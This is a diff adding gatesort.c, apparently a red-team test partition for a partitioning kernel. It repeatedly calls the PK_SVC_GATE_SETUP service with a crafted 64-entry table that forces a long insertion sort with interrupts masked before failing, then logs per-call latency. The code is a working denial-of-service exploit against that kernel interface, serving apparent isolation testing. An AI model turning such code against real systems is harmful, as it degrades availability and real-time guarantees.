@@ -1,0 +1,48 @@
+/*
+ * gatesort.c - red-team guest kernel: keeps the kernel busy with interrupts
+ * masked through PK_SVC_GATE_SETUP.
+ *
+ * The kernel insertion-sorts the gate table it copies (partitions/svc.c,
+ * svc_gate_setup) and checks each entry only when it reaches it. A table of
+ * 64 entries, the first 63 valid and in descending order, the last one
+ * invalid (not word-aligned), costs 63 * 62 / 2 = 1953 moves and then fails
+ * with EINVAL; since n_gates stays 0 the call may be repeated for ever.
+ * The partition calls it in a loop, times each call on the global clock and
+ * prints every REPORT_EVERY calls
+ *   gatesort: calls=<n> last_ns=<t> max_ns=<m>
+ */
+#include "rtgk.h"
+
+#define REPORT_EVERY 2000u
+
+/* A table of guest-kernel addresses (this function's neighbourhood). */
+static uint32_t table[64];
+
+void rtgk_attack(void);
+void rtgk_attack(void)
+{
+    uint32_t base = (uint32_t)(uintptr_t)&table[0];
+    for (uint32_t i = 0; i < 63u; i++)
+        table[i] = base + 4u * (63u - i); /* descending, word-aligned */
+    table[63] = base + 2u;                /* invalid: fails at the end */
+    struct rtgk_line l = {.len = 0u};
+    uint32_t max = 0;
+    for (uint32_t n = 1;; n++) {
+        uint32_t t0 = rtgk_now32();
+        uint32_t r = rtgk_svc(PK_SVC_GATE_SETUP, base, 64u, base, 0);
+        uint32_t dt = rtgk_now32() - t0;
+        if (dt > max)
+            max = dt;
+        if (n % REPORT_EVERY == 0u || r != (uint32_t)PK_EINVAL) {
+            rtgk_put(&l, "gatesort: calls=");
+            rtgk_put_u(&l, n);
+            rtgk_put(&l, " result=");
+            rtgk_put_u(&l, r);
+            rtgk_put(&l, " last_ns=");
+            rtgk_put_u(&l, dt);
+            rtgk_put(&l, " max_ns=");
+            rtgk_put_u(&l, max);
+            rtgk_flush(&l);
+        }
+    }
+}
